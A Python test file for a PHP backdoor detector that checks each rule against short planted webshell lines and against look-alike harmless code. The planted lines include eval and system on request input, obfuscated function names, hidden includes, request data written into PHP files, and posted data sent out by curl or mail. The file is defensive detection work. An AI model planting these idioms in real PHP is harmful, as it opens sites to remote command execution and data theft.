"""Each family of rules both ways: on an invented planted line, and on honest code beside it."""

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from unhijack.parse.plain.files import plain_marks
from unhijack.parse.plain.program import read_program

WORDS = base64.b64encode(b"$harmless = 'words'; print($harmless);").decode()

PLANTED = {
    "php-code-from-request": [
        "eval($_POST['word']);",
        "$w = stripslashes($_REQUEST['w']); @eval($w);",
        "extract($_GET); eval($x);",
        "foreach ($_POST as $k => $v) { $$k = $v; } assert($anything);",
        "goto b; a: eval($w); goto c; b: $w = $_COOKIE['w']; goto a; c:",
        "function say($t) { eval($t); } say($_POST['w']);",
        "eval(file_get_contents('php://input'));",
    ],
    "php-code-fetched": ["eval(file_get_contents('http://words.test/a.txt'));"],
    "php-code-decoded": [f"eval(base64_decode('{WORDS}'));", f"eval(gzinflate(base64_decode('{WORDS}')));"],
    "php-function-from-request": ["$_GET['f']($_POST['a']);", "$f = $_COOKIE['f']; $f($_COOKIE['a']);"],
    "php-callback-from-request": ["array_map($_GET['f'], array($_GET['a']));"],
    "php-callback-runs-request": [
        "call_user_func('assert', $_POST['w']);",
        "array_filter(array($_POST['w']), 'sys' . 'tem');",
        "usort($_POST['w'], 'assert');",
    ],
    "php-command-from-request": ["system($_GET['c']);", "echo `$_GET[c]`;", "function r($c) { return shell_exec($c); } r($_GET['c']);"],
    "php-hidden-code-function": [
        "$f = 'ass' . 'ert'; $f($words);",
        "$f = strrev('metsys'); $f('words');",
        "$f = chr(115) . chr(121) . 'stem'; $f('words');",
        "$p = 'tmesyw'; $f = $p[3] . $p[4] . $p[3] . $p[0] . $p[2] . $p[1]; $f('words');",
        "$f = str_replace('q', '', 'sqyqsqtqeqm'); $f('words');",
        "$f = '%6!QGD'; $f = ~(~'system'); $f('words');",
    ],
    "php-hidden-callback": ["array_map(strrev('tressa'), $list);"],
    "php-hidden-superglobal": ["$x = ${'_' . 'P' . 'OST'}['a'];"],
    "php-reflection": ["$r = new ReflectionFunction('assert'); $r->invoke($words);"],
    "php-hidden-include": [r'@include "\057var\057www\057.f4v\x69con.ico";'],
    "php-include-upload": ["include $_FILES['f']['tmp_name'];"],
    "php-writes-request-to-program": [
        "file_put_contents('words.php', $_POST['w']);",
        "$h = fopen('words.php', 'w'); fwrite($h, $_POST['w']);",
    ],
    "php-writes-decoded-program": [f"file_put_contents('w.php', base64_decode('{WORDS}'));"],
    "php-writes-as-request-says": ["file_put_contents($_POST['n'], $_POST['w']);"],
    "php-hoards-in-picture": ["file_put_contents('media/a.jpg', serialize($_POST), FILE_APPEND);"],
    "php-sends-encoded-request": ["curl_setopt($c, CURLOPT_POSTFIELDS, base64_encode(json_encode($_POST)));"],
    "php-mails-away": [f"mail(base64_decode('{WORDS}'), 'words', $text);"],
}  # fmt: skip

HONEST = [
    "eval('?>' . $this->template);",
    "$name = strtolower($_GET['name']); echo htmlspecialchars($name);",
    "assert($value instanceof Words);",
    "assert(is_string($_GET['a']));",
    "$callback = array($this, 'words'); call_user_func($callback, $_POST['a']);",
    "$f = 'word_' . 'count'; echo $f('a b');",
    "array_map('trim', $_POST['list']);",
    "array_map('intval', explode(',', $_GET['ids']));",
    "exec(escapeshellcmd('convert ' . $file));",
    "exec('git status', $out);",
    "system('convert ' . escapeshellarg($_GET['size']));",
    "include __DIR__ . '/words.php';",
    "include 'templates/' . basename($name) . '.php';",
    "file_put_contents($cache, serialize($data));",
    "file_put_contents('log.txt', $message, FILE_APPEND);",
    "$data = base64_decode($row['picture']); header('Content-Type: image/png'); echo $data;",
    "$method = 'get' . ucfirst($name); return $this->$method();",
    "mail('words@shop.example', 'Order', $order->text());",
    "move_uploaded_file($_FILES['f']['tmp_name'], $folder . '/' . md5($id) . '.png');",
    "preg_replace('/e/', 'x', $_GET['text']);",
    "curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query($order));",
    "usort($list, function ($a, $b) { return $a['n'] - $b['n']; });",
    "$x = \"\\x1b[31m\"; echo $x;",
    "list($a, $b) = explode(',', $text); exec($a);",
]  # fmt: skip


def rules_of(code: str) -> dict[str, float]:
    return {m.rule: m.confidence for m in plain_marks("a.php", b"<?php\n" + code.encode() + b"\n")}


@pytest.mark.parametrize(
    ("rule", "code"), [(rule, code) for rule, codes in PLANTED.items() for code in codes]
)
def test_what_planted_code_does_is_seen(rule: str, code: str):
    assert rules_of(code).get(rule, 0) >= 0.5


@pytest.mark.parametrize("code", HONEST)
def test_honest_code_that_looks_like_it_is_left_alone(code: str):
    assert max(rules_of(code).values(), default=0) < 0.5


def test_layers_are_peeled_one_inside_the_other():
    inner = base64.b64encode(b"eval($_POST['w']);").decode()
    outer = base64.b64encode(f"eval(base64_decode('{inner}'));".encode()).decode()
    code = f"<?php eval(base64_decode('{outer}'));".encode()
    program = read_program(code)
    assert [layer.depth for layer in program.layers] == [1, 2]
    assert program.layers[1].code == b"eval($_POST['w']);"
    assert "php-code-from-request" in rules_of(code.decode()[6:])


def test_a_text_that_holds_a_program_counts_less_than_a_program():
    marks = rules_of("$page = '<?php eval($_POST[1]);'; save($page, $_POST['x']);")
    assert 0.5 <= marks["php-text-code-from-request"] < 0.9


def test_a_page_with_everything_of_a_shell_looks_like_one():
    code = """error_reporting(0); set_time_limit(0); @ini_set('display_errors', 0);
    $c = $_POST['c']; if (get_magic_quotes_gpc()) { $c = stripslashes($c); }
    echo php_uname(), getmyuid(), ini_get('safe_mode'), ini_get('disable_functions');
    echo '<form method=post><textarea name=c></textarea></form> edit file, new dir, execute command';
    foreach (array('exec', 'passthru') as $name) { if (function_exists($name)) { $able = $name; } }
    $d = opendir($dir); while ($f = readdir($d)) { echo fileperms($f); }
    if ($_GET['del']) { unlink($file); } if ($_GET['mod']) { chmod($file, 0777); }
    passthru($prepared); shell_exec($prepared); echo '/etc/passwd';"""
    assert rules_of(code)["php-look"] >= 0.5


@pytest.mark.parametrize(
    "code",
    [
        b"eval(" * 100_000,
        b"$a[" * 100_000,
        b"function f(){" * 50_000,
        b"$x='a';" + b"$x.=$x;" * 5000,
        b"$a=range(0,9000);" + b"$c=implode(',',$a);" * 3000,
        b"goto a;a:" * 50_000,
        b"$z=base64_decode(str_repeat('QUFB',200000));" * 1000,
        b"'<?'." * 100_000,
    ],
)
def test_no_file_takes_long(code: bytes):
    start = time.process_time()
    plain_marks("a.php", b"<?php $_GET; eval($q); base64_decode($q);" + code)
    assert time.process_time() - start < 8


@given(st.binary(max_size=300))
def test_any_bytes_are_survived(content: bytes):
    marks = plain_marks("a.php", b"<?php eval($_GET);" + content)
    assert len(marks) < 100
    assert all(0 <= mark.start <= mark.end for mark in marks)


PIECES = st.sampled_from(
    [b"$a", b"=", b"(", b")", b"[", b"]", b"{", b"}", b";", b"'x'", b'"$b"', b"function f", b".", b"eval", b"goto a", b"a:",
     b"->b", b"$", b"foreach", b" as ", b"chr(1)", b"?", b":", b"new ", b"~", b"^", b"class A", b"::", b"fn", b"=>", b"<?php ", b"?>"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=60))
def test_any_order_of_php_s_own_pieces_is_survived(pieces: list[bytes]):
    read_program(b"<?php " + b" ".join(pieces))
